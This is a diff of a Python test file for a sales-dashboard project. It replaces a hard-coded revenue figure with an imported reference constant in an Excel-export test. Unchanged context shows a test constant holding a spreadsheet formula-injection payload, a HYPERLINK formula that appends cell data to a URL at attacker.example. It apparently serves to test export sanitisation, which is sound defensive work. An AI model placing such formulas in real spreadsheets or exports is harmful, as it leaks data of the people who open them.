@@ -23,6 +23,7 @@ from salesdash.metrics.rfm import rfm
 from salesdash.store import current_version, make_engine, snapshot
 from tests.conftest import SAMPLE_CSV
 from tests.orderlines import line, write_csv
+from tests.reference import REVENUE
 
 EVIL = '=HYPERLINK("http://attacker.example/?x="&A1,"Click me")'
 
@@ -107,7 +108,7 @@ def test_kpis_xlsx_matches_kpis_and_dates_are_dates(sample: Engine):
         expected = kpis(conn, Filters())
     sheet = openpyxl.load_workbook(io.BytesIO(file.content)).worksheets[0]
     values = {row[0]: row[3] for row in sheet.iter_rows(min_row=2, values_only=True)}
-    assert values["revenue"] == expected["revenue"] == 9838141.37
+    assert values["revenue"] == expected["revenue"] == REVENUE
     assert values["order_count"] == expected["order_count"]
     assert values["average_order_value"] == expected["average_order_value"]
 
